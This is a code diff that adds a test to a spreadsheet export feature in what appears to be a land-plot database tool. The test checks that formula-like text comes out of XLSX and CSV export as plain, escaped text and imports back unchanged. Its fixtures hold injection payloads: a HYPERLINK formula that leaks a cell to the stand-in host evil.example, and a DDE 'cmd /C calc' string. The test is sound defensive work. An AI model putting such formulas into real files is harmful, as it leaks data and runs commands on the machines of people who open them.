@@ -177,6 +177,58 @@ def test_internal_fields_only_when_asked(engine: Engine) -> None:
     assert stored > 0 and internal["owner_contact"].notna().sum() == stored
 
 
+#: Text a spreadsheet would run: a link that leaks the sheet, arithmetic, a DDE call, and
+#: the tab and carriage return that some spreadsheets skip before such a start.
+FORMULAS = {"owner_contact": '=HYPERLINK("http://evil.example/?"&A1,"offer")',
+            "internal_note": "+1+cmd|' /C calc'!A0"}
+
+
+def test_formula_like_text_is_exported_as_text(fresh_engine: Engine, tmp_path: Path) -> None:
+    """A plot's note written as "=HYPERLINK(...)" must open in Excel as that text, never as
+    a live formula: a string cell in the XLSX, a quoted cell in the CSV (OWASP), which the
+    import unquotes, so the CSV still imports back unchanged."""
+    with fresh_engine.begin() as conn:
+        plot_id = conn.execute(text(
+            "UPDATE plot SET owner_contact = :owner_contact, internal_note = :internal_note "
+            "WHERE id = (SELECT p.id FROM plot p JOIN zone z ON z.id = p.zone_id "
+            "WHERE z.name = 'PC Tezno' ORDER BY p.id LIMIT 1) RETURNING id"), FORMULAS).scalar_one()
+        conn.execute(text("UPDATE zone SET manager_name = '@SUM(1+1)*cmd', "
+                          "manager_phone = '-2+3' WHERE name = 'PC Tezno'"))
+    with fresh_engine.connect() as conn:
+        plots = select(conn, "plots", ExportFilters(zone="PC Tezno"), internal=EVERYWHERE)
+        zones = select(conn, "zones", ExportFilters(zone="PC Tezno"))
+    write(plots, tmp_path / "plots.xlsx", "plots")
+    write(plots, tmp_path / "plots.csv", "plots")
+    write(zones, tmp_path / "zones.xlsx", "zones")
+
+    sheet = load_workbook(tmp_path / "plots.xlsx")["plots"]
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == plot_id)
+    for field, formula in FORMULAS.items():
+        cell = row[header.index(field)]
+        assert (cell.data_type, cell.value) == ("s", formula)
+    zone_sheet = load_workbook(tmp_path / "zones.xlsx")["zones"]
+    zone_header = [cell.value for cell in zone_sheet[1]]
+    manager = zone_sheet.cell(row=2, column=zone_header.index("manager_name") + 1)
+    assert (manager.data_type, manager.value) == ("s", "@SUM(1+1)*cmd")
+
+    table = gpd.pd.read_csv(tmp_path / "plots.csv", dtype=str)
+    exported = table[table["id"] == str(plot_id)].iloc[0]
+    for field, formula in FORMULAS.items():
+        assert exported[field] == "'" + formula
+    assert not table["cadastral_ref"].str.startswith("'").any()  # plain text stays as it is
+
+    with fresh_engine.connect() as conn:
+        versions = conn.execute(text("SELECT sum(version) FROM plot")).scalar_one()
+    report = import_file(fresh_engine, "plots", tmp_path / "plots.csv")
+    assert (report.updated, report.created) == (0, 0), report.describe_problems()
+    with fresh_engine.connect() as conn:
+        stored = conn.execute(text("SELECT owner_contact, internal_note FROM plot WHERE id = :id"),
+                              {"id": plot_id}).one()
+        assert conn.execute(text("SELECT sum(version) FROM plot")).scalar_one() == versions
+    assert tuple(stored) == tuple(FORMULAS.values())
+
+
 def _invoke_cli(engine: Engine, monkeypatch: pytest.MonkeyPatch, *commands: list[str]) -> list:
     """Each command run by the ``locations`` CLI in this process, against ``engine``'s database."""
     from locations.cli import app
@@ -244,6 +296,9 @@ def test_post_imports_is_scoped_to_the_callers_municipalities(fresh_engine: Engi
         admin = create_account(conn, "boss", "admin")
         investor = create_account(conn, "investor", "investor")
     sample = Path(__file__).resolve().parent.parent / "data" / "samples" / "plots-generic.geojson"
+    from tests.test_import_samples import make_room_for_samples
+
+    make_room_for_samples(fresh_engine)
 
     def post(token: str | None, **form: str):
         headers = {"Authorization": f"Bearer {token}"} if token else {}
